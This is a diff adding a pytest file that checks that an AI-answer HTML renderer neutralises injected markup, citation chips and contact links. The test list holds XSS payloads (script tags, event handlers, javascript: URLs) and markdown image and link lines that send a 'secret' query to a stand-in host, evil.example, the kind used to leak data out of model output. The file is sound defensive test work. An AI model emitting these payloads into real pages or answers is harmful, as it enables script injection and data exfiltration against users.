@@ -1,0 +1,61 @@
+import re
+
+import pytest
+
+from askai.citing import Block, Citation
+from askai.rendering import Extras, answer_html
+
+VECTORS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<iframe src=javascript:alert(1)>",
+    "[click](javascript:alert(1))",
+    "[click](https://evil.example/?q=secret)",
+    "![](https://evil.example/?q=secret)",
+    "![x][ref]\n\n[ref]: https://evil.example/",
+    "<https://evil.example/>",
+    "<a href='//evil.example' onclick=alert(1)>x</a>",
+    "<style>@import url(//evil.example)</style>",
+    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
+    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
+    "</div></body><form action=//evil.example><input name=a>",
+    "\ue0001\ue001 \ue00099\ue001",
+    "<<script>alert(1)//<</script>",
+    "`<script>alert(1)</script>`",
+    "<details open ontoggle=alert(1)>",
+    "<base href=//evil.example>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+]
+MARKUP = re.compile(r"<\s*/?\s*([a-zA-Z][\w-]*)([^>]*)>")
+ALLOWED = {"div", "p", "br", "em", "strong", "ul", "ol", "li", "code", "pre", "blockquote", "a", "span", "q",
+           "details", "summary"}  # fmt: skip
+
+
+@pytest.mark.parametrize("vector", VECTORS)
+def test_it_makes_what_a_model_says_inert(vector):
+    for split in range(0, len(vector), 3):
+        html = answer_html([Block(vector[:split]), Block(vector[split:])], [], Extras())
+
+        for tag, attributes in MARKUP.findall(html):
+            assert tag in ALLOWED - {"a"}
+            assert not re.search(r"\bon\w+\s*=|src\s*=|href\s*=|style\s*=", attributes)
+
+
+def test_it_puts_a_chip_after_the_words_it_supports(settings):
+    settings.SITE_URL = "https://example.org"
+    cited = Citation("https://example.org/pages/a/#one", 'A "title" <b>', "words <i>")
+
+    html = answer_html([Block("Yes, *she* did. ", [1]), Block("Twice.")], [cited], Extras())
+
+    assert 'did.<a class="cite" href="/pages/a/#one" title="A &quot;title&quot; &lt;b&gt;">' in html
+    assert "<em>she</em>" in html
+    assert "<q>words &lt;i&gt;</q>" in html
+
+
+def test_it_offers_a_person_only_by_mail_or_web():
+    good = answer_html([], [], Extras(contact_url="mailto:ada@example.org", owner="Ada"))
+    bad = answer_html([], [], Extras(contact_url="javascript:alert(1)", owner="Ada"))
+
+    assert "mailto:ada@example.org" in good
+    assert "javascript" not in bad
